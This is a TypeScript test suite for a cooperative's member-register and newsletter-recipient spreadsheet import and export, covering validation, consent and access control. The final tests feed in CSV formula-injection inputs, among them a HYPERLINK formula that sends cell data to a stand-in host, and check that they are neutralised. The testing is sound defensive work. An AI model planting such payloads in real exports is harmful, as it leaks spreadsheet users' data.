import ExcelJS from "exceljs";
import { beforeAll, describe, expect, it } from "vitest";
import { db } from "@/lib/db";
import { ForbiddenError, type Actor } from "@/lib/auth/actor";
import { importSpreadsheet } from "@/lib/members/import";
import { registerTable } from "@/lib/members/export";
import { listRecipients, recipientsTable } from "@/lib/newsletter/recipients";
import { toCsv, toXlsx } from "@/lib/spreadsheet";
import { parseSpreadsheet } from "@/lib/members/import-file";
import { getMember, listMembers } from "@/lib/members/service";
import { actorFor, createCooperative, createMember } from "@/tests/factories/people";
import { csvText, REGISTER_HEADERS, registerRows, xlsxBuffer } from "../fixtures/spreadsheets";

let coordinator: Actor;
const CATEGORIES = [
  "usager·es et habitant·es",
  "salarié·es",
  "partenaires du quartier",
  "soutiens militants",
];

const xlsx = async (rows: (string | number | Date)[][], name = "registre.xlsx") =>
  new File([new Uint8Array(await xlsxBuffer(REGISTER_HEADERS, rows))], name);

beforeAll(async () => {
  const { cooperative } = await createCooperative();
  coordinator = await actorFor(
    (await createMember(cooperative.id, { isCoordinator: true, email: "coord@exemple.org" })).person.id,
  );
  for (const [position, name] of CATEGORIES.entries()) {
    await db.category.create({
      data: {
        cooperativeId: cooperative.id,
        name,
        position,
        kind: position === 0 ? "BENEFICIARY" : position === 1 ? "EMPLOYEE" : "OTHER",
      },
    });
  }
});

describe("importing the register", () => {
  it("imports nothing when one row is wrong, and names that row", async () => {
    const rows = registerRows(60, CATEGORIES);
    rows[45]![4] = "catégorie inconnue"; // spreadsheet line 47 (header is line 1)
    const before = await db.membership.count();
    const result = await importSpreadsheet(coordinator, {
      kind: "members",
      file: await xlsx(rows),
      commit: true,
    });
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.error).toBe("rowErrors");
    expect(result.preview?.errors).toEqual([
      { line: 47, field: "category", code: "categoryUnknown", value: "catégorie inconnue" },
    ]);
    expect(await db.membership.count()).toBe(before);
  });

  it("previews without writing, then imports the corrected file in one go", async () => {
    const rows = registerRows(60, CATEGORIES);
    const preview = await importSpreadsheet(coordinator, {
      kind: "members",
      file: await xlsx(rows),
      commit: false,
    });
    expect(preview).toMatchObject({ ok: true, imported: false, preview: { toCreate: 60, toUpdate: 0 } });
    expect(await listMembers(coordinator)).toHaveLength(1);

    const result = await importSpreadsheet(coordinator, {
      kind: "members",
      file: await xlsx(rows),
      commit: true,
    });
    expect(result).toMatchObject({ ok: true, imported: true });
    const members = await listMembers(coordinator, { q: "personne1@" });
    expect(members.map((m) => [m.name, m.category])).toContainEqual(["Prénom1 Nom1", "salarié·es"]);
    const detail = await getMember(coordinator, members.find((m) => m.name === "Prénom1 Nom1")!.id);
    expect(detail).toMatchObject({
      joinedOn: "2022-06-15",
      shares: 1,
      newsletterConsent: true,
      phone: "06 00 00 01 00",
    });
    expect(await db.auditEntry.count({ where: { action: "members.imported" } })).toBe(1);
  });

  it("merges by e-mail: a second import updates the people it already knows", async () => {
    const rows = registerRows(3, CATEGORIES);
    rows[0]![3] = "07 99 99 99 99";
    const result = await importSpreadsheet(coordinator, {
      kind: "members",
      file: await xlsx(rows),
      commit: true,
    });
    expect(result).toMatchObject({ ok: true, preview: { toCreate: 0, toUpdate: 3 } });
    expect(await listMembers(coordinator)).toHaveLength(61);
    const [person0] = await listMembers(coordinator, { q: "personne0@" });
    expect((await getMember(coordinator, person0!.id))?.phone).toBe("07 99 99 99 99");
  });

  it("reads a French CSV (semicolons, BOM, accents) just as well", async () => {
    const file = new File(
      [
        csvText(REGISTER_HEADERS, [
          ["Aurore", "Dubus", "aurore@exemple.org", "", "Usager·es et habitant·es", "01/03/2021", 2, "oui"],
        ]),
      ],
      "adresses.csv",
    );
    expect(await importSpreadsheet(coordinator, { kind: "members", file, commit: true })).toMatchObject({
      ok: true,
      preview: { toCreate: 1 },
    });
    expect((await listMembers(coordinator, { q: "Dubus" }))[0]).toMatchObject({
      name: "Aurore Dubus",
      category: "usager·es et habitant·es",
      shares: 2,
    });
  });

  it("refuses an empty file, another format, and an unreadable XLSX with a message", async () => {
    expect(
      await importSpreadsheet(coordinator, {
        kind: "members",
        file: new File([""], "vide.csv"),
        commit: true,
      }),
    ).toEqual({
      ok: false,
      error: "fileEmpty",
    });
    expect(
      await importSpreadsheet(coordinator, {
        kind: "members",
        file: new File(["x"], "image.png"),
        commit: true,
      }),
    ).toEqual({
      ok: false,
      error: "fileType",
    });
    expect(
      await importSpreadsheet(coordinator, {
        kind: "members",
        file: new File(["pas un zip"], "faux.xlsx"),
        commit: true,
      }),
    ).toEqual({ ok: false, error: "fileUnreadable" });
  });

  it("is the coordinator's only", async () => {
    const member = await actorFor((await createMember(coordinator.cooperativeId)).person.id);
    await expect(
      importSpreadsheet(member, {
        kind: "members",
        file: await xlsx(registerRows(1, CATEGORIES)),
        commit: true,
      }),
    ).rejects.toBeInstanceOf(ForbiddenError);
    await expect(registerTable(member)).rejects.toBeInstanceOf(ForbiddenError);
  });
});

describe("importing newsletter recipients", () => {
  it("adds and merges by e-mail, and never re-subscribes someone who unsubscribed", async () => {
    await db.newsletterRecipient.create({
      data: {
        cooperativeId: coordinator.cooperativeId,
        email: "parti@exemple.org",
        consentAt: new Date("2023-01-01"),
        unsubscribedAt: new Date("2024-01-01"),
      },
    });
    const file = new File(
      [
        csvText(
          ["E-mail", "Nom", "Organisation", "Groupe", "Lettre"],
          [
            ["ars@exemple.org", "", "ARS", "institution", "oui"],
            ["ARS@exemple.org", "Agence", "", "institution", "oui"],
            ["parti@exemple.org", "Parti", "", "autre", "oui"],
          ],
          ",",
        ),
      ],
      "lettre.csv",
    );
    const result = await importSpreadsheet(coordinator, { kind: "recipients", file, commit: true });
    expect(result).toMatchObject({
      ok: true,
      preview: {
        toCreate: 1,
        toUpdate: 0,
        lines: [
          expect.objectContaining({ lines: [2, 3] }),
          expect.objectContaining({ action: "keepUnsubscribed" }),
        ],
      },
    });
    expect(await db.newsletterRecipient.findFirst({ where: { email: "ars@exemple.org" } })).toMatchObject({
      name: "Agence",
      organisation: "ARS",
      group: "INSTITUTION",
    });
    expect(
      (await db.newsletterRecipient.findFirst({ where: { email: "parti@exemple.org" } }))?.unsubscribedAt,
    ).not.toBeNull();
  });
});

describe("consent in the register's import", () => {
  it("a later file's « non » withdraws a member's consent; a blank cell changes nothing", async () => {
    const sheet = (answer: string) =>
      new File(
        [
          csvText(
            ["Nom", "E-mail", "Catégorie", "Lettre d'information"],
            [["Iris Lettre", "iris@exemple.org", "salarié·es", answer]],
          ),
        ],
        "registre.csv",
      );
    const first = await importSpreadsheet(coordinator, { kind: "members", file: sheet("oui"), commit: true });
    expect(first.ok).toBe(true);
    const recipient = () => db.newsletterRecipient.findFirst({ where: { email: "iris@exemple.org" } });
    expect((await recipient())?.consentAt).not.toBeNull();
    await importSpreadsheet(coordinator, { kind: "members", file: sheet(""), commit: true });
    expect((await recipient())?.unsubscribedAt).toBeNull();
    await importSpreadsheet(coordinator, { kind: "members", file: sheet("non"), commit: true });
    expect((await recipient())?.unsubscribedAt).not.toBeNull();
  });
});

describe("consent in the recipients' import", () => {
  const sheet = (rows: string[][], headers = ["E-mail", "Nom", "Lettre"]) =>
    new File([csvText(headers, rows, ";")], "voisins.csv");
  const recipient = (email: string) => db.newsletterRecipient.findFirst({ where: { email } });

  it("takes yes, a date, no and a blank cell as said: a blank is a no", async () => {
    const result = await importSpreadsheet(coordinator, {
      kind: "recipients",
      file: sheet([
        ["oui@voisins.test", "Oui", "oui"],
        ["date@voisins.test", "Datée", "14/02/2025"],
        ["non@voisins.test", "Non", "non"],
        ["vide@voisins.test", "Vide", ""],
      ]),
      commit: true,
    });
    expect(result.ok).toBe(true);
    const preview = result.ok ? result.preview : null;
    expect(preview?.receivers).toBe(2);
    expect(preview?.lines.map((l) => [l.label.split(" <")[0], l.receives, l.reason])).toEqual([
      ["Oui", true, "consentYes"],
      ["Datée", true, "consentOn"],
      ["Non", false, "consentNo"],
      ["Vide", false, "consentBlank"],
    ]);
    expect((await recipient("oui@voisins.test"))?.consentAt).not.toBeNull();
    expect((await recipient("date@voisins.test"))?.consentAt?.toISOString().slice(0, 10)).toBe("2025-02-14");
    expect((await recipient("non@voisins.test"))?.consentAt).toBeNull();
    expect((await recipient("vide@voisins.test"))?.consentAt).toBeNull();
    // Who receives it is what the send takes: the blank and the no are not in the list.
    const { rows } = await listRecipients(coordinator, { filter: "receiving", q: "voisins.test" });
    expect(rows.map((r) => r.email).sort()).toEqual(["date@voisins.test", "oui@voisins.test"]);
  });

  it("refuses a file without a consent column, and an answer it cannot read, importing nothing", async () => {
    const before = await db.newsletterRecipient.count();
    const noColumn = await importSpreadsheet(coordinator, {
      kind: "recipients",
      file: sheet([["sans@voisins.test", "Sans"]], ["E-mail", "Nom"]),
      commit: true,
    });
    expect(noColumn).toMatchObject({ ok: false, error: "rowErrors" });
    expect(!noColumn.ok && noColumn.preview?.errors.map((e) => e.code)).toEqual(["consentColumnMissing"]);
    const unclear = await importSpreadsheet(coordinator, {
      kind: "recipients",
      file: sheet([["peutetre@voisins.test", "Peut-être", "peut-être"]]),
      commit: true,
    });
    expect(!unclear.ok && unclear.preview?.errors.map((e) => e.code)).toEqual(["consentUnclear"]);
    expect(await db.newsletterRecipient.count()).toBe(before);
  });

  it("shows a duplicate that said yes and no as a conflict, and imports nothing until it is decided", async () => {
    const file = () =>
      sheet([
        ["double@voisins.test", "Double", "oui"],
        ["autre@voisins.test", "Autre", "oui"],
        ["DOUBLE@voisins.test", "Double", "non"],
      ]);
    const pending = await importSpreadsheet(coordinator, { kind: "recipients", file: file(), commit: true });
    expect(pending).toMatchObject({ ok: false, error: "conflicts" });
    expect(!pending.ok && pending.preview?.conflicts).toEqual([
      {
        email: "double@voisins.test",
        answers: [
          { line: 2, consent: true },
          { line: 4, consent: false },
        ],
        choice: null,
      },
    ]);
    expect(await recipient("autre@voisins.test")).toBeNull();
    // The coordinator asked the person: no.
    const decided = await importSpreadsheet(coordinator, {
      kind: "recipients",
      file: file(),
      commit: true,
      resolutions: new Map([["double@voisins.test", false]]),
    });
    expect(decided.ok).toBe(true);
    expect((await recipient("double@voisins.test"))?.consentAt).toBeNull();
    expect((await recipient("autre@voisins.test"))?.consentAt).not.toBeNull();
  });

  it("withdraws a recorded consent when a later file says no, and keeps a formula-like name as text with a warning", async () => {
    const result = await importSpreadsheet(coordinator, {
      kind: "recipients",
      file: sheet([
        ["oui@voisins.test", "Oui", "non"],
        ["formule@voisins.test", "=1+1", "oui"],
      ]),
      commit: true,
    });
    expect(result.ok && result.preview.lines[0]?.reason).toBe("withdrawn");
    expect(result.ok && result.preview.warnings).toEqual([{ line: 3, field: "name", value: "=1+1" }]);
    expect(await recipient("oui@voisins.test")).toMatchObject({
      consentAt: null,
      consentSource: expect.stringMatching(/^retiré par l'import/),
    });
    expect((await recipient("formule@voisins.test"))?.name).toBe("=1+1");
    // The export neutralises it (a quote before), and reads back as the same name.
    const table = await recipientsTable(coordinator, { q: "formule@" });
    expect(table[1]?.[1]).toBe("=1+1");
    const csv = toCsv(table);
    expect(csv).toContain("'=1+1");
    expect(csv).not.toMatch(/;=1\+1/);
    const parsed = await parseSpreadsheet(new File([csv], "destinataires.csv"));
    expect(parsed.ok && parsed.rows[0]?.cells.name).toBe("=1+1");
  });

  it("lists recipients by state, with consent's date and source, to the coordinator only", async () => {
    const { counts, rows } = await listRecipients(coordinator, { filter: "noConsent", q: "voisins.test" });
    expect(rows.map((r) => r.email)).toEqual(
      expect.arrayContaining(["non@voisins.test", "vide@voisins.test", "oui@voisins.test"]),
    );
    expect(counts.all).toBeGreaterThanOrEqual(counts.receiving + counts.noConsent);
    // (A member made in a cooperative of their own: the register tests below count this one's.)
    const { cooperative } = await createCooperative();
    const member = await actorFor(
      (await createMember(cooperative.id, { email: "simple@exemple.org" })).person.id,
    );
    await expect(listRecipients(member)).rejects.toBeInstanceOf(ForbiddenError);
    await expect(recipientsTable(member)).rejects.toBeInstanceOf(ForbiddenError);
    // Another cooperative's coordinator sees none of these addresses.
    const stranger = await actorFor(
      (await createMember(cooperative.id, { isCoordinator: true, email: "autre-coord@exemple.org" })).person
        .id,
    );
    expect((await listRecipients(stranger, { q: "voisins.test" })).total).toBe(0);
  });
});

describe("exporting the register", () => {
  it("writes CSV and XLSX with the import's headers, so an export imports back unchanged", async () => {
    const table = await registerTable(coordinator);
    expect(table[0]).toEqual([
      "Nom",
      "E-mail",
      "Téléphone",
      "Adresse",
      "Catégorie",
      "Date d'adhésion",
      "Parts",
      "Lettre d'information",
      "Statut",
      "Compte activé",
    ]);
    expect(table.length).toBe(
      1 + (await db.membership.count({ where: { cooperativeId: coordinator.cooperativeId } })),
    );
    const csv = toCsv(table);
    expect(csv.startsWith("\uFEFFNom;E-mail;")).toBe(true);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(new Uint8Array(await toXlsx(table, "Registre")).buffer as ArrayBuffer);
    expect(workbook.worksheets[0]!.getRow(1).getCell(1).value).toBe("Nom");

    // Every associé·e with a category comes back as "already known"; the two test accounts made
    // without a category are the only rows the import asks to correct.
    const reimport = await importSpreadsheet(coordinator, {
      kind: "members",
      file: new File([csv], "export.csv"),
      commit: false,
    });
    expect(reimport.ok).toBe(false);
    if (reimport.ok) return;
    const uncategorised = table.slice(1).filter((r) => r[4] === "").length;
    expect(uncategorised).toBe(2);
    expect(reimport.preview?.errors.map((e) => e.code)).toEqual(["categoryUnknown", "categoryUnknown"]);
    expect(reimport.preview?.toCreate).toBe(0);
  });

  it("writes an English account's register in English, and that file imports back the same", async () => {
    const table = await registerTable(coordinator, { locale: "en" });
    expect(table[0]).toEqual([
      "Name",
      "E-mail",
      "Phone",
      "Address",
      "Category",
      "Membership date",
      "Shares",
      "Newsletter",
      "Status",
      "Account activated",
    ]);
    expect(table.slice(1).every((r) => ["member", "guest", "archived"].includes(r[8]!))).toBe(true);
    expect(table.slice(1).some((r) => r[8] === "member")).toBe(true);
    expect(table.slice(1).every((r) => ["yes", "no"].includes(r[9]!))).toBe(true);
    const reimport = await importSpreadsheet(coordinator, {
      kind: "members",
      file: new File([toCsv(table)], "export.csv"),
      commit: false,
    });
    expect(reimport.ok).toBe(false);
    if (reimport.ok) return;
    // The same two rows without a category, nothing new: the English file reads as the French.
    expect(reimport.preview?.errors.map((e) => e.code)).toEqual(["categoryUnknown", "categoryUnknown"]);
    expect(reimport.preview?.toCreate).toBe(0);
  });
});

describe("a cell a spreadsheet would take for a formula", () => {
  it("is written after a quote in CSV and XLSX, and an import takes the quote off again", async () => {
    const formula = '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")';
    const table = [
      ["Nom", "E-mail", "Téléphone"],
      [formula, "formule@exemple.org", "+33 6 12 34 56 78"],
      ["@SUM(1+1)", "somme@exemple.org", "-1"],
      ["Camille Martin", "camille@exemple.org", "01 23 45 67 89"],
    ];
    const csv = toCsv(table);
    expect(csv).toContain(`"'=HYPERLINK(""http://exemple.invalid/?""&A1;""Cliquez"")"`);
    expect(csv).toContain("'+33 6 12 34 56 78");
    expect(csv).toContain("'@SUM(1+1)");
    expect(csv).toContain(";'-1");
    expect(csv).toContain("Camille Martin;camille@exemple.org;01 23 45 67 89");

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(new Uint8Array(await toXlsx(table, "Registre")).buffer as ArrayBuffer);
    const row = workbook.worksheets[0]!.getRow(2);
    expect(row.getCell(1).value).toBe(`'${formula}`);
    expect(row.getCell(1).formula).toBeUndefined();

    const parsed = await parseSpreadsheet(new File([csv], "export.csv"));
    if (!parsed.ok) throw new Error(parsed.error);
    expect(parsed.rows.map((r) => Object.values(r.cells))).toEqual([
      [formula, "formule@exemple.org", "+33 6 12 34 56 78"],
      ["@SUM(1+1)", "somme@exemple.org", "-1"],
      ["Camille Martin", "camille@exemple.org", "01 23 45 67 89"],
    ]);
  });
});
